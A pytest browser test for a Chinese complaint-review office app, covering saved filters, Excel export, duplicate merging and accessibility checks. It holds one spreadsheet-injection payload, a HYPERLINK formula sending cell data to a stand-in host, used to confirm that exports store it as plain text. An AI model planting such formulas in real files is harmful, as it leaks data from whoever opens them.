"""In a real browser (Debian chromium), a reviewer saves the queue's filters and applies them
again, exports the filtered queue and opens the file, merges duplicates from the cluster
panel and from the queue, and accepts a cluster's lead with its last duplicate; on a desktop
and on a 390 px phone, axe-core finding nothing."""

from __future__ import annotations

import re

import pytest
from openpyxl import load_workbook

from tests.review.office import add_users, login, send_clues, wait_pending
from tests.support import factories
from tests.support.accessibility import assert_accessible, check_page
from tests.support.browser import browser_page, screenshot

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


@pytest.fixture
def office(hub, agencies):
    add_users(hub)
    numbers = send_clues(hub, agencies)
    _, hotline = agencies.add("竹溪县12345热线", "hotline")
    sent = agencies.client(hotline).post("/api/v1/clues", json=factories.clue(
        channel="hotline", title=FORMULA, references=[], subjects=[],
        content="来电人反映公交站牌被拆后一直无人恢复。"))
    assert sent.status_code == 201, sent.text
    numbers["formula"] = sent.json()["id"]
    wait_pending(hub, 5)
    return agencies.base_url, numbers


def _status(page) -> str:  # noqa: ANN001
    return page.get_by_role("status").inner_text()


def test_saved_filter_export_and_merging_duplicates(office, tmp_path):
    base, numbers = office
    with browser_page() as page:
        login(page, base)
        # Filter the queue to the 12345 calls, keep the filters under a name.
        page.get_by_label("渠道").select_option("hotline")
        page.get_by_role("button", name="筛选").click()
        page.get_by_label("保存当前筛选为").fill("热线来电")
        page.get_by_role("button", name="保存筛选").click()
        assert "已保存筛选条件“热线来电”" in _status(page)
        assert_accessible(page)
        page.goto(f"{base}/office/queue")
        page.get_by_role("link", name="热线来电").click()
        page.wait_for_url(re.compile(r"channel=hotline"))
        assert page.get_by_label("渠道").input_value() == "hotline"
        assert "待研判 3 条" in page.locator("h1").inner_text()

        # Export what the filters find and open the file.
        with page.expect_download() as waiting:
            page.get_by_role("link", name="导出当前筛选结果（Excel）").click()
        download = waiting.value
        assert download.suggested_filename.endswith(".xlsx")
        path = tmp_path / "queue.xlsx"
        download.save_as(path)
        sheet = load_workbook(path).active
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
        header = rows[0]
        shown = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
        assert set(shown) == {numbers["hotline"], numbers["unknown"], numbers["formula"]}
        assert shown[numbers["formula"]]["标题"] == FORMULA
        cell = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == numbers["formula"])[1]
        assert cell.data_type == "s"  # text, never a formula
        assert shown[numbers["formula"]]["反映人"] == "张* 138****5678"
        screenshot(page, "queue_saved_filter")

        # The cluster panel: the 12345 call repeats the court's judgment, merge it into the lead.
        page.goto(f"{base}/office/clues/{numbers['court']}")
        assert_accessible(page)
        member = page.locator(f"article[data-clue='{numbers['hotline']}']")
        member.get_by_role("button", name=f"将 {numbers['hotline']} 作为重复线索并入主线索").click()
        assert f"已对 1 条线索作出决定：合并，并入 {numbers['court']}" in _status(page)
        merged = page.locator(f"article[data-clue='{numbers['hotline']}'] p.no").inner_text()
        assert merged == f"{numbers['hotline']} 合并"  # its status now
        assert f"并入重复线索（李科员）：{numbers['hotline']}" in page.locator(".history").inner_text()
        page.get_by_role("link", name=numbers["hotline"]).first.click()
        assert f"本线索已作为重复线索合并到 {numbers['court']}" in page.locator(".notice").inner_text()
        assert f"作出决定：合并（李科员）：{numbers['court']}" in page.locator(".history").inner_text()

        # The queue: the petition repeats it too, merged by the court clue's number.
        page.goto(f"{base}/office/queue")
        page.get_by_label(f"选择 {numbers['petition']}").check()
        page.locator("fieldset.decide").get_by_label("决定").select_option("merge")
        page.get_by_label("并入线索").fill(numbers["court"])
        page.get_by_role("button", name="批量决定").click()
        assert f"已对 1 条线索作出决定：合并，并入 {numbers['court']}" in _status(page)
        assert numbers["petition"] not in page.locator("table.queue").inner_text()
        page.get_by_label(f"选择 {numbers['formula']}").check()
        page.locator("fieldset.decide").get_by_label("决定").select_option("merge")
        page.get_by_label("并入线索").fill(numbers["formula"])
        page.get_by_role("button", name="批量决定").click()
        assert "不能合并到它自己" in page.get_by_role("alert").inner_text()

        # The lead accepted with its last pending duplicate (joined to the cluster first).
        page.goto(f"{base}/office/clues/{numbers['unknown']}")
        page.get_by_label("并入另一线索组（线索组编号或线索编号）").fill(numbers["court"])
        page.get_by_role("button", name="加入线索组").click()
        page.goto(f"{base}/office/clues/{numbers['court']}")
        page.locator("#decide select[name=kind]").select_option("accept")
        page.get_by_label("同时处理本组重复线索").check()
        page.get_by_role("button", name="提交决定").click()
        assert "同时将本组 1 条重复线索并入主线索" in _status(page)
        screenshot(page, "clue_lead_with_duplicates")
        page.goto(f"{base}/office/clues/{numbers['unknown']}")
        assert "随主线索的决定“受理”一并处理" in page.locator(".notice").inner_text()
        assert f"随主线索 {numbers['court']} 的决定（受理）一并处理" in \
            page.locator(".history").inner_text()

        # On a phone too: nothing to scroll sideways, nothing for axe.
        problems = []
        for url in (f"{base}/office/queue?channel=hotline",
                    f"{base}/office/clues/{numbers['court']}",
                    f"{base}/office/clues/{numbers['unknown']}",
                    f"{base}/office/clues?status=merged"):
            problems += check_page(page, url)
        assert problems == []
